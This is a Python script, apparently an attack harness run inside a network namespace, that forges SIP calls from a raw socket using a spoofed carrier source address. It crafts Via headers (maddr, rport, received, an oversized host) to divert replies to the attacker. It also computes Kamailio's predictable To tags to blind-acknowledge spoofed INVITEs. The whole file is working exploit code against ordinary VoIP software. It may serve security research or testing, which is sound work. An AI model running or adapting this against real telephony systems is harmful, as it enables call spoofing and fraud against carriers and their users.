# Forges calls: INVITEs with a carrier's source address from a raw socket. The sender receives only what is sent to its own
# address. One JSON object on standard input is the order; one on standard output is the report. Runs in a network namespace.
import hashlib, json, os, select, socket, struct, sys, time

order = json.load(sys.stdin)
mode, calls, rate = order['mode'], order['calls'], order['callsPerSecond']
src, dst, me = tuple(order['source']), tuple(order['target']), tuple(order['attacker'])
known = order.get('knownTags', [])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
ear = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
ear.bind(me)
serial = 0

def send(text):
    global serial
    serial += 1
    data = text.encode()
    udp = struct.pack('!HHHH', src[1], dst[1], 8 + len(data), 0) + data
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), serial & 65535, 0, 64, 17, 0, socket.inet_aton(src[0]), socket.inet_aton(dst[0]))
    raw.sendto(ip + udp, (dst[0], 0))

def vias(call, method):
    transport = {'as-tcp': 'TCP', 'as-tls': 'TLS'}.get(mode, 'UDP')
    top = 'Via: SIP/2.0/%s %s:%d;branch=z9hG4bK%s' % (transport, src[0], src[1], call['id'])
    second = 'SIP/2.0/UDP %s:%d;branch=z9hG4bKme%s' % (me[0], me[1], call['id'])
    is_here = mode.startswith('cancel-') == (method == 'CANCEL')
    if is_here and 'maddr' in mode: top += ';maddr=' + me[0]
    if is_here and mode == 'maddr-long': top = top.replace(src[0] + ':', 'x' * 1500 + ':')
    if mode == 'received': top = top.replace('%s:%d' % src, '%s:%d' % me) + ';received=' + me[0]
    if mode == 'rport': top += ';rport=%d;received=%s' % (me[1], me[0])
    if is_here and mode.endswith('via2') and method != 'ACK': return [top, 'Via: ' + second]
    if is_here and mode.endswith('via2-comma') and method != 'ACK': return [top + ', ' + second]
    if is_here and mode == 'via2-compact' and method != 'ACK': return ['v: ' + top[5:], 'v: ' + second]
    return [top]

def message(method, call, tag=None):
    contact = {'as-tls': '<sips:x@%s:%d;transport=tls>', 'as-tcp': '<sip:x@%s:%d;transport=tcp>'}.get(mode, '<sip:x@%s:%d>') % src
    return '\r\n'.join(['%s sip:%s@%s:%d SIP/2.0' % (method, call['called'], dst[0], dst[1]), *vias(call, method),
        'From: <sip:%s@carrier.example>;tag=f%s' % (call['caller'], call['id']),
        'To: <sip:%s@%s>' % (call['called'], dst[0]) + (';tag=' + tag if tag else ''),
        'Call-ID: ' + call['id'], 'CSeq: 1 ' + method, 'Max-Forwards: 70', 'Contact: ' + contact, 'Content-Length: 0', '', ''])

by_id = {call['id']: call for call in calls}
learnt, received, guessed = {}, 0, 0

def header(text, name):
    return [line for line in text.split('\r\n') if line.lower().startswith(name)][0]

def receive(until):
    global received
    while True:
        left = until - time.time()
        if left <= 0 or not select.select([ear], [], [], left)[0]: return
        text = ear.recv(65535).decode()
        received += 1
        if not text.startswith('SIP/2.0 ') or ';tag=' not in header(text, 'to:'): continue
        name = header(text, 'call-id:').split(':', 1)[1].strip()
        if name in by_id: learnt[name] = header(text, 'to:').split(';tag=')[1].split(';')[0]

def acknowledge():
    for name, tag in learnt.items(): send(message('ACK', by_id[name], tag))

# The To tag that Kamailio would choose: a digest of the first address it listens on, and two checksums of the request.
def kamailio_tag(call, listening):
    prefix = hashlib.md5(('SER-TM/tags%s%d' % tuple(listening)).encode()).hexdigest()
    return prefix + '-' + checksum(src[0], str(src[1]), 'z9hG4bK' + call['id']) + checksum(str(src[1]), src[0], call['id'])

def checksum(*parts):
    value = 0xffff
    for byte in ''.join(parts).encode():
        value ^= byte
        for _ in range(8): value = (value >> 1) ^ (0x8408 if value & 1 else 0)
    return ('%x' % (~value & 0xffff))[::-1].ljust(4, '0')

# Each call twice: after it was refused, and while our side waits for an ACK.
def guess(at):
    global guessed
    for call in [calls[n] for n in (at - int(rate * 1.5), at - int(rate * 3)) if 0 <= n < len(calls)]:
        computed = [kamailio_tag(call, address) for address in order.get('listening', [])]
        for tag in [None, 'x', call['id'], os.urandom(16).hex(), 'z9hG4bK' + call['id'], *known, *computed]:
            send(message('ACK', call, tag))
            guessed += 1

start = time.time()
for n, call in enumerate(calls):
    send(message('INVITE', call))
    if mode.startswith('cancel-'):
        receive(time.time() + 0.02)
        send(message('CANCEL', call))
    receive(max(time.time(), start + (n + 1) / rate))
    if mode == 'guess': guess(n)
    if n % 50 == 49: acknowledge()
until = time.time() + order['seconds']
if mode == 'guess':
    for n in range(len(calls), len(calls) + int(rate * 3) + 1):
        guess(n)
        receive(max(time.time(), start + (n + 1) / rate))
while time.time() < until:
    receive(time.time() + 0.4)
    acknowledge()
right = [name for name, tag in learnt.items() if tag in [kamailio_tag(by_id[name], address) for address in order.get('listening', [])]]
print(json.dumps({'mode': mode, 'sent': len(calls), 'received': received, 'learnt': len(learnt), 'guessed': guessed, 'computed': len(right)}))
